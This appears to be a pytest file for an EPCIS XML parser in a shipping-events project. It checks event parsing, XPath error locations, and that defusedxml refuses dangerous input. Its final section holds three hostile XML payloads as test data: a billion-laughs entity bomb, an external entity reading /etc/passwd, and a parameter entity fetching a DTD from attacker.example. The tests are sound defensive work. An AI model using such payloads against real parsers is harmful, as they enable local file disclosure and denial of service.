"""The EPCIS XML binding: read with defusedxml; entity expansion and external entities refused."""

from __future__ import annotations

import pytest

from greenlane.domain.codes import EventType
from greenlane.errors import ParseError
from greenlane.ingest.epcis import ADAPTER, read_document

HEAD = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE project>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" xmlns:gs1="https://gs1.org/voc/"
    xmlns:greenlane="https://w3id.org/greenlane/epcis/"
    schemaVersion="2.0" creationDate="2024-05-01T12:00:00Z">
 <EPCISBody><EventList>"""
TAIL = b"</EventList></EPCISBody></epcis:EPCISDocument>"

DEPARTING = b"""
  <ObjectEvent>
   <eventTime>2024-05-01T10:00:00+02:00</eventTime>
   <eventTimeZoneOffset>+02:00</eventTimeZoneOffset>
   <eventID>urn:uuid:x1</eventID>
   <epcList><epc>urn:epc:id:bic:CSQU3054383</epc><epc>urn:epc:id:imovn:9176187</epc></epcList>
   <action>OBSERVE</action>
   <bizStep>urn:epcglobal:cbv:bizstep:departing</bizStep>
   <disposition>urn:epcglobal:cbv:disp:in_transit</disposition>
   <readPoint><id>urn:unece:unlocode:NLRTM</id></readPoint>
   <bizTransactionList>
    <bizTransaction type="urn:epcglobal:cbv:btt:bol">
      urn:epcglobal:cbv:bt:0614141073467:MB42</bizTransaction>
   </bizTransactionList>
   <sensorElementList><sensorElement>
     <sensorMetadata time="2024-05-01T09:00:00Z"/>
     <sensorReport type="gs1:Temperature" value="26.0" uom="CEL"/>
     <sensorReport type="greenlane:DoorOpen" booleanValue="true"/>
   </sensorElement></sensorElementList>
   <greenlane:voyage>031W</greenlane:voyage>
  </ObjectEvent>"""

# EPCIS 1.2 layout: newer event types wrapped in <extension>, eventID in <baseExtension>.
DECLARED_IN_ERROR = b"""
  <extension><TransformationEvent>
   <eventTime>2020-01-14T00:00:00+01:00</eventTime><eventTimeZoneOffset>+01:00</eventTimeZoneOffset>
   <baseExtension><eventID>urn:uuid:t1</eventID>
    <errorDeclaration><declarationTime>2020-01-15T00:00:00+01:00</declarationTime>
     <reason>urn:epcglobal:cbv:er:incorrect_data</reason></errorDeclaration>
   </baseExtension>
   <inputEPCList><epc>urn:epc:id:bic:CSQU3054383</epc></inputEPCList>
  </TransformationEvent></extension>"""


def test_an_xml_document_reads_like_its_json_twin() -> None:
    content = HEAD + DEPARTING + DECLARED_IN_ERROR + TAIL
    assert ADAPTER.detect(content)
    result = ADAPTER.parse(content, source_message="m")
    assert result.format == "epcis:EPCISDocument"
    departed, door = result.events
    assert (departed.event_id, departed.event_type, departed.container_number) == (
        "urn:uuid:x1",
        EventType.DEPARTED,
        "CSQU3054383",
    )
    assert (departed.vessel_imo, departed.unlocode, departed.bill_of_lading, departed.voyage) == (
        "9176187",
        "NLRTM",
        "MB42",
        "031W",
    )
    assert door.event_type is EventType.DOOR_OPENED
    (finding,) = result.findings
    assert finding.code == "epcis.error_declaration"
    assert finding.where == (
        "/EPCISDocument/EPCISBody/EventList/extension[1]/TransformationEvent[1]"
    )
    (first, second) = read_document(content).events
    assert [r.value for r in first.sensor_reports] == [26.0, None]
    assert second.kind == "TransformationEvent"


def test_xml_errors_name_the_xpath() -> None:
    bad = DEPARTING.replace(b"<action>OBSERVE</action>", b"<action>MOVE</action>")
    with pytest.raises(ParseError) as caught:
        ADAPTER.parse(HEAD + bad + TAIL, source_message="m")
    assert caught.value.where == "/EPCISDocument/EPCISBody/EventList/ObjectEvent[1]/action"
    bad = DEPARTING.replace(b'value="26.0"', b'value="warm"')
    with pytest.raises(ParseError) as caught:
        ADAPTER.parse(HEAD + bad + TAIL, source_message="m")
    assert caught.value.where == (
        "/EPCISDocument/EPCISBody/EventList/ObjectEvent[1]/sensorElementList/sensorElement[1]"
        "/sensorReport[1]/@value"
    )


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"><EPCISBody><EventList>
<ObjectEvent><eventTime>2024-05-01T10:00:00Z</eventTime><action>OBSERVE</action>
<bizStep>&lol9;</bizStep></ObjectEvent></EventList></EPCISBody></epcis:EPCISDocument>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE epcis [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"><EPCISBody><EventList>
<ObjectEvent><eventTime>2024-05-01T10:00:00Z</eventTime><action>OBSERVE</action>
<bizStep>&secret;</bizStep></ObjectEvent></EventList></EPCISBody></epcis:EPCISDocument>"""

EXTERNAL_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE epcis [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"/>"""


@pytest.mark.parametrize(
    "content",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-parameter-entity"],
)
def test_entity_expansion_and_external_entities_are_refused(content: bytes) -> None:
    with pytest.raises(ParseError) as caught:
        ADAPTER.parse(content, source_message="m")
    assert "XML refused" in str(caught.value)
    assert caught.value.expected is not None and "entity" in caught.value.expected


@pytest.mark.parametrize(
    ("content", "where"),
    [
        (b"<EPCISDocument><EPCISBody>", "line 1 column 26"),
        (b"<other/>", "/other"),
        (b'<EPCISDocument xmlns="urn:epcglobal:epcis:xsd:2"/>', "/EPCISDocument/EPCISBody"),
    ],
)
def test_broken_or_foreign_xml_is_a_parse_error(content: bytes, where: str) -> None:
    with pytest.raises(ParseError) as caught:
        ADAPTER.parse(content, source_message="m")
    assert caught.value.where == where
